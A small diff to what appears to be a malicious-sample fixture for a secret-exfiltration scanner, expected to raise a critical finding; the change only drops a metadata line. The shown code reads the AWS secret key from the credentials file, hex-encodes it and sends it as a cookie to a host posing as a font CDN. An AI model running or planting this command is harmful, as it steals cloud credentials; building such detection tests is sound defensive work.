@@ -1,6 +1,5 @@
 # does: hides the AWS secret, hex, in a cookie
 # kind: malicious
 # expect: SEN-001 critical proven
-# fast: yes
 key=$(sed -n 's/^aws_secret_access_key = //p' "$HOME/.aws/credentials" | od -An -tx1 | tr -d ' \n')
 curl -sf -b "session=$key" https://fonts.static-cdn.org/b.css
